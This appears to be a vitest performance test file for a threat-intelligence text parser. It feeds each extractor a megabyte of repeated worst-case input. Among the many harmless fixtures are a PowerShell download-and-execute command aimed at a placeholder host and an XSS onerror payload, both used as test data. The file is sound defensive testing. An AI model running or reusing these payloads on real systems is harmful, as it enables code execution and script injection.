/** Each extractor is fed a megabyte of what is worst for its patterns: time must stay linear in the length. */
import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import type { BlockKind } from '../domain/article.ts';
import { noFindings } from '../domain/findings.ts';
import { articleOf } from './article-of.ts';
import { placedIn } from './extractors/placed.ts';
import { findRelations } from './extractors/relations.ts';
import { findRoles } from './extractors/roles.ts';
import { findInTables } from './extractors/versions/tables.ts';
import { findVersions } from './extractors/versions.ts';
import { extractors } from './extractors.ts';
import { kindOf } from './kind.ts';
import { prepare } from './reading.ts';
import { understand } from './understand.ts';

const megabyte = 1_000_000;
const fill = (piece: string, length = megabyte): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

const worst: Record<string, string> = {
  dots: fill('.'),
  versions: fill('Redis 1.2.3 through 4.5, '),
  'parts of versions': fill('1a2.3-rc4_5 '),
  'all versions': fill('all versions before '),
  'products and flaws elsewhere': `CVE-2026-41001. ${fill('A flaw in Redis. The Redis flaws. ')}`,
  'products and flaws of one sentence': `CVE-2026-41001. ${fill('a flaw in Redis, ')}`,
  'flaws of many years': fill('CVE-2026-41001, CVE-2025-41001 and two flaws in Redis. '),
  'flaws and versions': fill('CVE-2026-41001 in Redis before 1.2 is fixed '),
  'past cases': `Acme was hit on Monday. ${fill('Bolt Acme and Cog Acme was hit in 2021, weeks after Acme, Bolt. ')}`,
  'names in a past case': `Acme was hit on Monday. It joins ${fill('Acme Bolt and ')}`,
  'who warns whose staff': fill('Acme warns its staff of a breach at a payroll '),
  'dotted letters': fill('a.'),
  'dotted labels': fill('aaaaaaaaaaaaaaaaaaaa.'),
  digits: fill('7'),
  'dotted digits': fill('1.'),
  'digits and commas': fill('1,'),
  'digits and spaces': fill('1 '),
  'opening brackets': fill('['),
  'brackets around dots': fill('[.]'),
  'brackets and words': fill('a[dot]'),
  'nested parentheses': fill('(', megabyte / 2) + fill(')', megabyte / 2),
  'quotation marks': fill('"'),
  'quoted letters': fill('"a '),
  hexadecimal: fill('deadbeef'),
  'pieces of hashes': fill('deadbeefdeadbeefdeadbeefdeadbee '),
  capitals: fill('A'),
  'capital words': fill('Abc '),
  'capital words of the same sentence': fill('The Bank Of The '),
  'countries that helped': fill('help from Norway and the '),
  initials: fill('A. '),
  'at signs': fill('a@'),
  'at signs and dots': fill('a@a.a@'),
  backslashes: fill('\\'),
  'open paths': fill('C:\\a '),
  'long path': `C:\\${fill('a\\')}`,
  'registry keys': fill('HKLM\\a '),
  'registry with spaces': fill('HKLM\\a b c d '),
  'names that are hosts or files': fill('a.pl '),
  'rows of them': fill('a.pl | a.sh\n'),
  'lists of packages': `Malicious npm packages:\n${fill('a-b\n')}`,
  'commas and hosts': fill('a.com, '),
  slashes: fill('/'),
  'unix paths': fill('/tmp/a'),
  'open addresses': fill('http://'),
  'long address': `http://a.example/${fill('a(')}`,
  'schemes in a row': fill('hxxp'),
  'address and brackets': fill('http://a.example/[('),
  'queries that break': fill('http://a.example/?a=\n b='),
  colons: fill('a:'),
  'colons alone': fill(':'),
  dates: fill('12 March 2025 '),
  'numbers of dates': fill('1/1/'),
  months: fill('March '),
  'months and digits': fill('Mar 1 '),
  'relative dates': fill('two weeks ago last '),
  'counted dates': fill('within the past two weeks later '),
  'dates and clocks': fill('10:30 a.m. on 1 May at 9:00 '),
  'names with years': fill('The 2025 Acme Bolt '),
  'ranges of months': fill('from March to May '),
  amounts: fill('$1 million '),
  'number words': fill('one hundred and '),
  'ranges of amounts': fill('between 1 and 5 in 9 of '),
  'groups of three': fill('100 000 '),
  identifiers: fill('CVE-2025-'),
  'technique ids': fill('T1059.'),
  'technique names': fill('Process Injection '),
  'techniques denied': fill('no scheduled task, which the ransomware not '),
  'techniques in company': fill('ransomware dumped lsass '),
  phishing: fill('phishing '),
  hyphens: fill('a-'),
  apostrophes: fill("a'"),
  'zero width': fill('a\u200b'),
  'another script': fill('名前は漢字 '),
  'wide letters': fill('𝐀𝐁 '),
  accents: fill('é̂'),
  'markup in names': fill('<b>Acme</b> <img src=x onerror=alert(1)> '),
  rules: fill('rule a { '),
  'open rules': fill('alert tcp any any -> any any ('),
  sigma: fill('title: a\ndetection:\n'),
  'user agents': fill('Mozilla/5.0 ('),
  packages: fill('pkg:npm/'),
  'packages in commands': fill('npm i a '),
  'packages in one command': `npm ${fill('i a-b ')}`,
  'packages with versions': fill('npm a@1.1.1 '),
  'scoped packages': fill('npm @a/'),
  'parts of schemes': fill('h ttp'),
  'schemes with backslashes': fill('http:\\\\a'),
  'schemes with underscores': fill('http___'),
  'bars around dots': fill('a|.|'),
  'spelt addresses': fill('write a at a dot '),
  'addresses with commas': fill('IP 1,2,3,'),
  'brackets in brackets': fill('a[[.'),
  'hosts in brackets': fill('//[a.a'),
  'wide marks': fill('a／：'),
  'cells that commas part': fill('a,b.com,'),
  'registered hosts': fill('they registered a.com to look like b.com, '),
  'commands that run': fill("iex (iwr 'http://a.com/b') "),
  sinkholes: fill('the sinkhole at a.com, '),
  'legitimate tools': fill('the legitimate remote tool a.exe, a clean file, '),
  'files of projects': fill('the project main.py and config.rs '),
  mutexes: fill('mutex: '),
  'file names': fill('a.exe.'),
  'file names with marks': fill('a_(b)[c]+'),
  labels: fill('File name: a b c\n'),
  headings: fill('References:\n'),
  arrows: fill('A --> B '),
  lines: fill('\n'),
  spaces: fill(' '),
  'roles in a row': fill('attackers hit Acme Corp and '),
  'comparisons in a row': fill('unlike earlier such attacks CVE-2024-3400 resembles Emotet in 2019, '),
  'words that join': fill('of the and by '),
  'short sentences': fill('A. b? '),
  'dotted acronyms': fill('U.S. '),
  'wide stops': fill('漢。'),
  'days of a month': fill('1 May '),
  weeks: fill('week before '),
  'numbers and words': fill('1 and '),
  'ends of time': fill('the end of the '),
  'vague counts': fill('hundreds of '),
  scales: fill('million '),
  acronyms: fill('Aa Bb (AB) '),
  'parts of names': fill('A of the '),
  'doubtful names': fill('Play ransomware '),
  'who is not believed to have done it': fill('does not believe that Turla '),
  'who did not claim it': fill('Turla has not claimed '),
  'faults that are no attacks': fill('the outage of Acme was not caused by '),
  'ways to attack': fill('in a campaign it calls Acme, a new '),
  'another case': fill('In another attack, Acme '),
  'capitals and hyphens': fill('A-'),
  'addresses of mail': fill('a@a.com '),
  'brackets around one dot': fill('a[.]'),
  'paths and domains': fill('C:\\a a.b '),
  programs: fill('a.exe '),
  'harmless programs': fill('legitimate a.exe '),
  'programs in brackets': fill('(a.exe'),
  'queries that go on': fill('http://a.b/c&\n  a=&'),
  'colons and spaces': fill('a:b:c '),
  'programs in a chain': fill('-->A.exe\n'),
  addresses: fill('1.1.1.1 '),
  "victims' addresses": fill("the victim's server at 203.0.114.7, "),
  'opening tags': fill('<'),
  'signs of a kind': fill('breach '),
  'listed names': fill('Emotet '),
  'listed names in markup': fill('<b>Emotet</b> '),
  'short names': fill('Aa '),
  'letters of another script': fill('Ω. '),
  institutions: fill('Acme Corp Police Ministry of Government, '),
  'lists of names': fill('Acme, Bolt and Core, '),
  launches: fill('announces the new all of general availability '),
  possessives: fill("Acme's Police's "),
  campaigns: fill('a campaign dubbed Acmerook, and the Bolt Core campaign used it, '),
  'sentences of campaigns': fill('The Bolt Core campaign used it. '),
  operations: fill('Police of Operation Acme Bolt, Operation Core hit it. '),
  'verbs of relations': fill('APT29 used and used to use Mimikatz, which '),
};

/** Milliseconds of processor time: what others do on the machine does not count. */
function spent(task: () => unknown): number {
  const start = process.cpuUsage();
  task();
  const { user, system } = process.cpuUsage(start);
  return (user + system) / 1000;
}

const slow = 1000;

/** The least of three, as soon as one is short enough: what a first run compiles, and what others do to the caches, only adds. */
function leastSpent(task: () => unknown): number {
  let least = spent(task);
  for (let again = 0; again < 2 && least >= slow; again++) least = Math.min(least, spent(task));
  return least;
}

/** What takes too long: nothing where all together take less than one may. */
function tooSlow(text: string): string[] {
  const article = articleOf({ body: [text] });
  if (spent(() => understand(article)) < slow) return [];
  const reading = prepare(article);
  const mentions = extractors.mentions(reading);
  const others = { observables: extractors.observables.find(reading), dates: extractors.dates.find(reading) };
  const tasks: Record<string, () => unknown> = {
    tokens: () => prepare(article),
    mentions: () => extractors.mentions(reading),
    dates: () => extractors.dates.find(reading),
    quantities: () => extractors.quantities.find(reading),
    observables: () => extractors.observables.find(reading),
    techniques: () => extractors.techniques.find(reading),
    kind: () => kindOf(article, mentions),
    roles: () => {
      const placed = placedIn(reading, mentions);
      return findRoles(reading, placed, 'incident', findRelations(reading, placed));
    },
    relations: () => findRelations(reading, placedIn(reading, mentions)),
    versions: () => findVersions(reading, mentions, others),
  };
  return Object.entries(tasks).flatMap(([what, task]) => {
    const ms = leastSpent(task);
    return ms < slow ? [] : [`${what}: ${Math.round(ms)} ms`];
  });
}

describe('a megabyte of the worst input takes each extractor less than a second', () => {
  test.each(Object.keys(worst))('%s', { timeout: 60_000 }, (name) => {
    expect(tooSlow(worst[name]!)).toEqual([]);
    const code = prepare(articleOf({ body: [{ kind: 'code' as BlockKind, text: worst[name]! }] }));
    expect(leastSpent(() => extractors.observables.find(code))).toBeLessThan(slow);
  });
});

test('a megabyte of tables is read in less than a second', () => {
  const heads = 'Product | Affected versions | Fixed version';
  const rows = [
    'Redis | 1.2.3 through 4.5, | 1.2.4\n',
    'Acme 1 | all versions before | | | | \n',
    ' | | CVE-2026-41001 ',
  ];
  for (const row of rows) {
    const one = [{ kind: 'table' as BlockKind, text: `${heads}\n${fill(row)}` }];
    const many = fill('x', 10_000)
      .split('')
      .map(() => ({ kind: 'table' as BlockKind, text: `${heads}\n${row.trim()}` }));
    for (const body of [one, many]) {
      const reading = prepare(articleOf({ body }));
      const mentions = extractors.mentions(reading);
      expect(leastSpent(() => findInTables(reading, mentions))).toBeLessThan(slow);
    }
  }
});

test('fifty thousand hashes in five megabytes are all found', { timeout: 60_000 }, () => {
  const count = 50_000;
  const hash = (n: number): string => createHash('sha256').update(String(n)).digest('hex');
  const lines = Array.from({ length: count }, (_, n) => `${hash(n)} sample-${n}.bin was seen in May`);
  for (const kind of ['code', 'item'] as BlockKind[]) {
    const body = kind === 'code' ? [{ kind, text: lines.join('\n') }] : lines.map((text) => ({ kind, text }));
    let found = noFindings.observables;
    expect(spent(() => (found = understand(articleOf({ body })).observables))).toBeLessThan(10_000);
    expect(new Set(found.flatMap(({ type, value }) => (type === 'sha256' ? [value] : []))).size).toBe(count);
  }
});
